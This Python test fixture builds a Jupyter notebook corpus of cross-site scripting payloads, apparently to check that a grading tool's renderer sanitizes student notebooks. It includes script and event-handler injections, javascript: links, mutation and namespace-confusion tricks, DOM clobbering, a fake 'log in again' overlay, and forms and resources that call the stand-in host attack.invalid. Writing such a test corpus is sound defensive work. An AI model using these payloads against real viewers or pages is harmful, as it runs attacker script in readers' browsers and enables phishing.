"""What a student can put into a notebook to act in the browser of whoever reads it: one entry per trick.

Each attack sets ``window.attacked``, opens a dialog, or asks the host attack.invalid for something, if it works. The
corpus is used on cells and on outputs, and opened in a real browser.
"""

from __future__ import annotations

import base64

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

SCRIPT = "window.attacked = 1; alert(1)"
HOST = "http://attack.invalid"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{SCRIPT}'><script>{SCRIPT}</script><image href='{HOST}/svg.png'/></svg>"

# Name to HTML. Each is tried as raw HTML in Markdown, as an output of text/html, and as an output of text/markdown.
HTML = {
    "script": f"<script>{SCRIPT}</script>",
    "script from another host": f"<script src='{HOST}/x.js'></script>",
    "script in a script": f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    "script in capitals, unclosed": f"<SCRIPT>{SCRIPT}//",
    "handler of an image": f"<img src=x onerror='{SCRIPT}'>",
    "handler without quotes and spaces": "<img/src=x/onerror=window.attacked=1>",
    "handler of svg": SVG,
    "handler of details": f"<details open ontoggle='{SCRIPT}'><summary>more</summary>x</details>",
    "handler with focus": f"<input autofocus onfocus='{SCRIPT}'><a href='#' autofocus tabindex=1 onfocus='{SCRIPT}'>a</a>",
    "handler of an animation": f"<style>@keyframes k{{from{{left:0}}}}</style><p style='animation:k 1s' onanimationstart='{SCRIPT}'>a</p>",
    "image from another host": f"<img src='{HOST}/pixel.png'>",
    "image set, picture and video": f"<picture><source srcset='{HOST}/a.png'><img srcset='{HOST}/b.png 1x'></picture><video poster='{HOST}/c' src='{HOST}/d' autoplay></video>",
    "image in svg as data": f"<img src='data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}'>",
    "frame": f"<iframe src='{HOST}/frame'></iframe>",
    "frame with a document": f'<iframe srcdoc="<script>parent.attacked=1;{SCRIPT}</script>"></iframe>',
    "frame with javascript": f"<iframe src='javascript:{SCRIPT}'></iframe>",
    "object and embed": f"<object data='data:text/html,<script>{SCRIPT}</script>'></object><embed src='{HOST}/e.swf'>",
    "form that sends": f"<form action='{HOST}/form' id=f><input name=p></form><button form=f autofocus onfocus='f.submit()'>Save</button>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={HOST}/refresh'>",
    "base for every link": f"<base href='{HOST}/'><a href='grades'>grades</a><img src='pixel.png'>",
    "style sheet from another host": f"<link rel=stylesheet href='{HOST}/s.css'><style>@import url({HOST}/i.css);</style>",
    "background from another host": f"<p style='background:url({HOST}/bg.png)'>a</p><table background='{HOST}/t.png'><tr><td>1</td></tr></table>",
    "cover over the page": "<div style='position:fixed;inset:0;background:red;z-index:9999' id=cover>Your session ended. Log in again.</div>",
    "cover with the page's own class": "<div class='navbar-fixed-top modal in' id=cover>Log in again</div>",
    "style that hides points": "<style>.graded, .tasks {display:none} body {background:red}</style>",
    "closing the page's own tags": "</div></div></main></body><div id=outside>all points</div>",
    "javascript link": f"<a href='javascript:{SCRIPT}' id=link>read more</a>",
    "javascript link with tabs": f"<a href='java\tscript:{SCRIPT}'>x</a><a href='&#106;avascript:{SCRIPT}'>y</a>",
    "vbscript and data links": f"<a href='vbscript:x'>x</a><a href='data:text/html,<script>{SCRIPT}</script>'>y</a>",
    "link into the server": "<a href='/formgrader/manage_students'>x</a> <a href='evil.html'>y</a> <a href='//attack.invalid/z'>z</a>",
    "comment that ends early": f"<!--><img src=x onerror='{SCRIPT}'>-->",
    "namespace confusion": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={SCRIPT}&gt;'>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'></noscript>",
    "template and slot": f"<template shadowrootmode=open><img src=x onerror='{SCRIPT}'></template>",
    "names that hide the page's own": "<img name=alert id=points><form name=getElementById><input name=children></form><a id=base_url href=x>x</a>",
    "text area that swallows": f"<textarea><img title='</textarea><img src=x onerror={SCRIPT}>'></textarea>",
    "ping and download": f"<a href='https://example.org/' ping='{HOST}/ping' download id=ping>x</a>",
}

# Tricks that only Markdown has.
MARKDOWN = {
    "markdown link": f"[read more](javascript:{SCRIPT.replace(' ', '')})",
    "markdown link by reference": "[read more][1]\n\n[1]: javascript:window.attacked=1",
    "markdown autolink": "<javascript:window.attacked=1>",
    "markdown image": f"![]({HOST}/md.png)",
    "markdown image with a handler": '![a](x"onerror="window.attacked=1)',
    "attachment": "![a](attachment:a.svg)",
    "formula with html": f"$<img src=x onerror='{SCRIPT}'>$ $$\n<script>{SCRIPT}</script>\n$$ \\begin{{x}}<script>{SCRIPT}</script>\\end{{x}}",
    "formula with a link": f"$\\href{{javascript:{SCRIPT}}}{{x}}$ $\\unicode{{<img src=x onerror=alert(1)>}}$ \\(\\require{{html}}\\style{{position:fixed}}{{x}}\\)",
    "fence with a name": f"```<img src=x onerror='{SCRIPT}'>\nx\n```\n\n```mermaid\nclick A href \"javascript:{SCRIPT}\"\n```",
    "heading with an id": f"# a <img src=x onerror='{SCRIPT}'>",
    "table cell": f"| a |\n|---|\n| <img src=x onerror='{SCRIPT}'> |",
}

# Outputs that are not HTML by name, and fields that a kernel can forge.
OUTPUTS = {
    "javascript": new_output("display_data", {"application/javascript": SCRIPT}),
    "svg": new_output("display_data", {"image/svg+xml": SVG}),
    "latex": new_output("display_data", {"text/latex": f"$<script>{SCRIPT}</script>$"}),
    "mermaid": new_output("display_data", {"text/vnd.mermaid": f"</pre><script>{SCRIPT}</script>"}),
    "widget": new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{SCRIPT}</script>"}}),
    "isolated frame": new_output("display_data", {"text/html": f"<script>{SCRIPT}</script>"}, metadata={"text/html": {"isolated": True}}),
    "picture that is none": new_output("display_data", {"image/png": f"x'\"><img src=x onerror='{SCRIPT}'>"}),
    "picture with a width": new_output(
        "display_data",
        {"image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="},
        metadata={"image/png": {"width": "1 onload=window.attacked=1"}, "filenames": {"image/png": f"{HOST}/f.png"}},
    ),
    "picture of another kind": new_output("display_data", {"image/jpeg": f"x' onerror='{SCRIPT}"}),
    "pdf": new_output("display_data", {"application/pdf": "JVBERi0x"}),
    "text": new_output("stream", text=f"<script>{SCRIPT}</script>\x1b[31m<img src=x onerror='{SCRIPT}'>\x1b[0m"),
    "error": new_output(
        "error", ename=f"<script>{SCRIPT}</script>", evalue="</pre><script>window.attacked=1</script>", traceback=[f"<script>{SCRIPT}</script>"]
    ),
    "result": new_output("execute_result", {"text/plain": f"</pre><script>{SCRIPT}</script>"}, execution_count=1),
}


def attacking_cells() -> list[NotebookNode]:
    """Every attack in a cell of its own; each cell begins or ends with a word that must still be there to read."""
    cells = []
    for name, text in {**HTML, **MARKDOWN}.items():
        cells.append(new_markdown_cell(f"before {name}\n\n{text}\n\nafter"))
    for name, text in HTML.items():
        outputs = [new_output("display_data", {kind: text, "text/plain": "plain"}) for kind in ("text/html", "text/markdown")]
        cells.append(new_code_cell(f"# output: {name} <script>{SCRIPT}</script>", outputs=outputs))
    for name, output in OUTPUTS.items():
        cells.append(new_code_cell(f"# output: {name}", outputs=[output]))
    cells.append(new_raw_cell(f"<script>{SCRIPT}</script>", metadata={"raw_mimetype": "text/html"}))
    cells.append(new_code_cell("1", metadata={"tags": ['"><script>window.attacked=1</script>']}))
    for cell in cells:
        if "attachment:" in cell.source:
            cell.attachments = {"a.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()}}
    return cells


def attacking_notebook() -> NotebookNode:
    """A notebook of attacks, with metadata that attack too."""
    notebook = nbformat.v4.new_notebook(cells=attacking_cells())
    notebook.metadata = NotebookNode(
        title=f"</title><script>{SCRIPT}</script>",
        widgets={
            "application/vnd.jupyter.widget-state+json": {
                "state": {"a": f"</script><script>{SCRIPT}</script>"},
                "version_major": 2,
                "version_minor": 0,
            }
        },
        language_info={"name": "python", "pygments_lexer": f"<script>{SCRIPT}</script>"},
    )
    return notebook
